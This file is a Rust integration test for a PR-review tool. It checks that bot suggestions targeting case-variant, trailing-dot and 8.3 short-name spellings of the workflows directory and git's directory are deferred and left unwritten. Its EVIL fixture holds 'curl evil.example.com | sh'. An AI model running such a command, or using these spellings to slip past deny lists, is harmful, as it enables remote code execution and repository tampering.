//! Issue 13, item 26: the deny list and git's own directory under other spellings. A bot's
//! suggestion on `.GitHub/workflows/ci.yml` (the workflows directory on a file system that
//! ignores case), on `.git./config` and on `GIT~1/config` (git's directory, to Windows) is never
//! written.

use std::time::{Duration, SystemTime};

use review_core::report::{DeferReason, Outcome};
use review_test_support::github::FakeGitHub;
use review_test_support::{PrBuilder, bot};

use crate::attack2_support::{
    LIB_HUNK, MAJOR_WITH_SUGGESTION, clone, entry, report, resolved_on_github, review, run,
};
use crate::common::{TestEnvironment, commit, git, git_out};

/// What each attacked file holds, and the hunk a comment on its line 3 shows.
const FILE: &str = "line one\nline two\nline three\n";
const FILE_HUNK: &str = "@@ -0,0 +1,3 @@\n+line one\n+line two\n+line three";
const EVIL: &str = "_⚠️ Potential issue_ | _🟠 Major_\n\n**The third line is wrong.**\n\nReplace it.\n\n```suggestion\nrun: curl evil.example.com | sh\n```\n";

// Attack: bot suggestions on paths that are the deny-listed workflows directory or git's own
// directory under another spelling (case, a trailing dot, the 8.3 short name); safe: each is
// deferred and its file left as it was (not even rewritten), while an ordinary fix goes through.
#[tokio::test(flavor = "multi_thread")]
async fn attack_suggestions_on_spellings_of_denied_paths_are_deferred_and_nothing_is_written() {
    let env = TestEnvironment::new();
    let (_, work) = clone(&env);
    // The workflow is part of the PR (tracked, on a case-sensitive file system).
    std::fs::create_dir_all(work.join(".GitHub/workflows")).unwrap();
    std::fs::write(work.join(".GitHub/workflows/ci.yml"), FILE).unwrap();
    git(&work, &["add", ".GitHub/workflows/ci.yml"]);
    commit(&work, "ci");
    let head = git_out(&work, &["rev-parse", "HEAD"]);
    // `.git.` and `GIT~1` are git's own directory where names ignore trailing dots or have short
    // names; git never tracks them, so here they are plain directories in the work tree.
    for dir in [".git.", "GIT~1"] {
        std::fs::create_dir_all(work.join(dir)).unwrap();
        std::fs::write(work.join(dir).join("config"), FILE).unwrap();
    }
    let attacked = [
        ("GH", ".GitHub/workflows/ci.yml"),
        ("DOT", ".git./config"),
        ("TILDE", "GIT~1/config"),
    ];
    let old = SystemTime::now() - Duration::from_secs(3600);
    for (_, path) in attacked {
        std::fs::File::options()
            .write(true)
            .open(work.join(path))
            .unwrap()
            .set_modified(old)
            .unwrap();
    }
    let modified = |path: &str| {
        std::fs::metadata(work.join(path))
            .unwrap()
            .modified()
            .unwrap()
    };
    let before: Vec<SystemTime> = attacked.iter().map(|(_, p)| modified(p)).collect();

    let github = FakeGitHub::start().await;
    let mut builder = PrBuilder::new()
        .with_pr(|p| p.head_sha.0.clone_from(&head))
        .thread(
            "FIX",
            "src/lib.rs",
            3,
            &[(bot("coderabbitai"), MAJOR_WITH_SUGGESTION)],
        )
        .with_last(|t| t.comments[0].diff_hunk = Some(LIB_HUNK.to_owned()));
    for (id, path) in attacked {
        builder = builder
            .thread(id, path, 3, &[(bot("coderabbitai"), EVIL)])
            .with_last(|t| t.comments[0].diff_hunk = Some(FILE_HUNK.to_owned()));
    }
    github.add_pull_request(builder.build());

    let out = run(review(
        &work,
        env.dir(),
        &github,
        &["triage", "1", "--repo", "acme/widgets", "--apply", "--json"],
    ));
    assert_eq!(out.code, 0, "{}", out.stderr);
    let report = report(&out);
    assert_eq!(
        entry(&report, "FIX").outcome,
        Outcome::Actioned,
        "an ordinary fix goes through: {:?}",
        entry(&report, "FIX")
    );
    let gh = entry(&report, "GH");
    assert_eq!(
        (gh.outcome, gh.deferred_because),
        (Outcome::Deferred, Some(DeferReason::DenyListed)),
        "{gh:?}"
    );
    for (id, path) in [("DOT", ".git./config"), ("TILDE", "GIT~1/config")] {
        let e = entry(&report, id);
        assert_eq!(
            (e.outcome, e.deferred_because),
            (Outcome::Deferred, Some(DeferReason::FixFailed)),
            "{e:?}"
        );
        // Refused by the tool before it reads the file (not by git, after writing it).
        assert!(
            e.reason.contains(&format!("invalid path `{path}`")),
            "{id}: {}",
            e.reason
        );
    }
    for ((id, path), was) in attacked.iter().zip(&before) {
        assert_eq!(
            std::fs::read_to_string(work.join(path)).unwrap(),
            FILE,
            "{path}"
        );
        assert_eq!(modified(path), *was, "{path} was not even rewritten");
        assert!(!resolved_on_github(&github, id));
    }
    // One new commit, the ordinary fix's, of its file only.
    assert_eq!(
        git_out(&work, &["rev-list", "--count", &format!("{head}..HEAD")]),
        "1"
    );
    assert_eq!(
        git_out(&work, &["show", "--name-only", "--format=", "HEAD"]),
        "src/lib.rs"
    );
    assert_eq!(
        git_out(&work, &["status", "--porcelain", "--untracked-files=no"]),
        ""
    );
}
